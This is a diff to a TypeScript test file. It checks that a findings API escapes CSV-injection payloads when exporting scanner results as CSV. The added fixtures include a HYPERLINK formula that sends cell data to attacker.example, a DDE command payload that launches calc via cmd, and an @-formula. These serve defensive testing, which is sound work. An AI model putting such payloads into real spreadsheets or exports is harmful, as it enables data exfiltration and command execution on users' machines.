@@ -226,6 +226,10 @@ describe.each(DB_KINDS)('triage on %s', (kind) => {
 
   it('exports every matching finding as CSV (all pages, streamed) with Accept: text/csv', async () => {
     const many: SarifResultSpec[] = Array.from({ length: 1205 }, (_, i) => ({ rule: 'csv-rule', file: `src/gen/f${i}.js`, message: `Found "quoted", with comma ${i}` }));
+    // What a scanned repository's code can put in a message, which a spreadsheet would run as a formula.
+    many[0] = { rule: 'csv-rule', file: 'src/gen/formula.js', message: '=HYPERLINK("https://attacker.example/?"&A1,"open")' };
+    many[1] = { rule: 'csv-rule', file: 'src/gen/plus.js', message: '+1+cmd|\' /C calc\'!A0' };
+    many[2] = { rule: 'csv-rule', file: 'src/gen/at.js', message: '@SUM(1+1)' };
     await upload(many, 'csv');
     const res = await t.request({ url: `/api/v1/repos/${repoId}/findings?tool=TestScanner&q=src/gen/`, headers: { cookie: member, accept: 'text/csv' } });
     expect(res.statusCode).toBe(200);
@@ -234,6 +238,10 @@ describe.each(DB_KINDS)('triage on %s', (kind) => {
     expect(lines[0]).toBe('id,tool,category,rule_id,rule_name,severity,state,message,file_path,start_line,end_line,package,package_version,purl,fingerprint,first_seen_at,fixed_at,reopened_at');
     expect(lines).toHaveLength(1206);
     expect(lines.find((l) => l.includes('src/gen/f7.js'))).toContain('"Found ""quoted"", with comma 7"');
+    // A leading ' makes the cell text (OWASP's advice for CSV injection); the text itself is kept.
+    expect(lines.find((l) => l.includes('src/gen/formula.js'))).toContain(`"'=HYPERLINK(""https://attacker.example/?""&A1,""open"")"`);
+    expect(lines.find((l) => l.includes('src/gen/plus.js'))).toContain(`'+1+cmd|' /C calc'!A0`);
+    expect(lines.find((l) => l.includes('src/gen/at.js'))).toContain(`'@SUM(1+1)`);
     const refused = await t.request({ url: '/api/v1/repos/0190a3b2-0000-7000-8000-000000000000/findings', headers: { cookie: member, accept: 'text/csv' } });
     expect(refused.statusCode).toBe(404);
     expect(refused.headers['content-type']).toContain('application/problem+json');
